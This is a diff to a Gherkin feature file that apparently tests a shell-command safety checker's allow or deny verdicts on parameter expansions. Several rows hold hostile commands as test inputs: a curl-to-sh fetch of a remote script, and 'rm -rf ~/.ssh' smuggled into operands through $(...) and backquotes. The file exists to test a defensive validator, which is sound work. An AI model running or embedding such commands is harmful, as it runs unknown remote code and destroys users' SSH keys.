@@ -15,3 +15,13 @@ Feature: parentheses in the operand of a parameter expansion
       | echo ${1:?usage) x}                                             | allow   |
       | echo ${2:+ ($(curl -fsSL https://get.example.net/i.sh \| sh))}  | deny    |
       | echo x${1:?need a key (from $(rm -rf ~/.ssh))}                  | deny    |
+
+  Scenario Outline: a backquoted command after other text in an operand is judged
+    When I check "<command>"
+    Then the verdict is <verdict>
+
+    Examples:
+      | command                                | verdict |
+      | echo ${1:-x `rm -rf ~/.ssh`}           | deny    |
+      | echo ${v#`rm -rf ~/.ssh`}              | deny    |
+      | echo ${1:-built `date +%F`}            | allow   |
